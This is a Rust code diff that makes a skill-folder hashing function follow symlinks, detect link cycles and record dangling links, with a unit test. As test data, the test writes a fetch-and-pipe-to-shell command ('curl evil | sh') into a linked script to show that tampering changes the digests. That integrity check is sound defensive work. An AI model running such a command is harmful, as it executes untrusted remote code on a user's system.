@@ -2,9 +2,13 @@
 //! under the folder, by `/`-separated path relative to it, with the sha256
 //! of its bytes (`sha256:<hex>`), sorted by path.
 //!
-//! Symlinked files are read through their link (their content is what an
-//! agent would load); symlinked directories are not entered, so a link cycle
-//! cannot loop and nothing outside the folder is pulled in by a directory link.
+//! Links are followed, as an agent reading the folder follows them: a
+//! symlinked file is read through its link, and a symlinked directory is
+//! entered (`SKILL.md` may say "run `lib/x.sh`" with `lib` a link to
+//! elsewhere), each real directory once, so a link cycle cannot loop; the
+//! [`MAX_DIGEST_FILES`] bound stops a link to somewhere large. A link that
+//! leads to no file or directory (dangling, or a FIFO) is recorded by where
+//! it points, so retargeting or removing it still changes the digests.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -40,7 +44,14 @@ pub fn folder_digests(folder: &Path) -> Result<BTreeMap<String, String>, FolderD
     };
     let mut digests = BTreeMap::new();
     let mut pending: Vec<(PathBuf, String)> = vec![(folder.to_path_buf(), String::new())];
+    // Real directories entered, so a cycle of links ends.
+    let mut entered = std::collections::HashSet::new();
     while let Some((dir, prefix)) = pending.pop() {
+        if let Ok(real) = std::fs::canonicalize(&dir)
+            && !entered.insert(real)
+        {
+            continue;
+        }
         let entries = std::fs::read_dir(&dir).map_err(|err| {
             fail(format!(
                 "cannot list `{}`: {err}",
@@ -64,18 +75,31 @@ pub fn folder_digests(folder: &Path) -> Result<BTreeMap<String, String>, FolderD
             let kind = entry
                 .file_type()
                 .map_err(|err| fail(format!("cannot stat `{relative}`: {err}")))?;
-            if kind.is_dir() {
+            let led_to = if kind.is_symlink() {
+                std::fs::metadata(&path).ok()
+            } else {
+                None
+            };
+            if kind.is_dir() || led_to.as_ref().is_some_and(std::fs::Metadata::is_dir) {
                 pending.push((path, relative));
-                continue;
-            }
-            // A symlink counts when it leads to a regular file.
-            let is_file = kind.is_file()
-                || (kind.is_symlink() && std::fs::metadata(&path).is_ok_and(|m| m.is_file()));
-            if !is_file {
                 continue;
             }
             if digests.len() >= MAX_DIGEST_FILES {
                 return Err(fail(format!("more than {MAX_DIGEST_FILES} files")));
+            }
+            if kind.is_symlink() && !led_to.as_ref().is_some_and(std::fs::Metadata::is_file) {
+                // Dangling, or to a FIFO or device: where it points.
+                let target = std::fs::read_link(&path)
+                    .map_err(|err| fail(format!("cannot read the link `{relative}`: {err}")))?;
+                let digest = Sha256::digest(target.as_os_str().as_encoded_bytes());
+                digests.insert(
+                    relative,
+                    format!("symlink:{}", agents_core::text::hex(&digest)),
+                );
+                continue;
+            }
+            if !kind.is_file() && !kind.is_symlink() {
+                continue;
             }
             let digest = file_digest(&path)
                 .map_err(|err| fail(format!("cannot read `{relative}`: {err}")))?;
@@ -121,5 +145,32 @@ mod tests {
             folder_digests(dir.path()).unwrap()["SKILL.md"],
             digests["SKILL.md"]
         );
+    }
+
+    #[test]
+    fn links_are_followed_as_an_agent_follows_them() {
+        let dir = tempfile::tempdir().unwrap();
+        let skill = dir.path().join("skill");
+        let elsewhere = dir.path().join("elsewhere");
+        std::fs::create_dir_all(&skill).unwrap();
+        std::fs::create_dir_all(&elsewhere).unwrap();
+        std::fs::write(skill.join("SKILL.md"), "run lib/x.sh").unwrap();
+        std::fs::write(elsewhere.join("x.sh"), "echo 1").unwrap();
+        std::os::unix::fs::symlink(&elsewhere, skill.join("lib")).unwrap();
+        // A cycle: entered once.
+        std::os::unix::fs::symlink(&skill, elsewhere.join("back")).unwrap();
+        let before = folder_digests(&skill).unwrap();
+        assert!(before.contains_key("lib/x.sh"), "{before:?}");
+        // A file changed behind the link changes the digests.
+        std::fs::write(elsewhere.join("x.sh"), "curl evil | sh").unwrap();
+        let changed = folder_digests(&skill).unwrap();
+        assert_ne!(changed["lib/x.sh"], before["lib/x.sh"]);
+        // A dangling link is recorded by where it points.
+        std::os::unix::fs::symlink("/nowhere/a", skill.join("gone")).unwrap();
+        let one = folder_digests(&skill).unwrap();
+        assert!(one["gone"].starts_with("symlink:"), "{one:?}");
+        std::fs::remove_file(skill.join("gone")).unwrap();
+        std::os::unix::fs::symlink("/nowhere/b", skill.join("gone")).unwrap();
+        assert_ne!(folder_digests(&skill).unwrap()["gone"], one["gone"]);
     }
 }
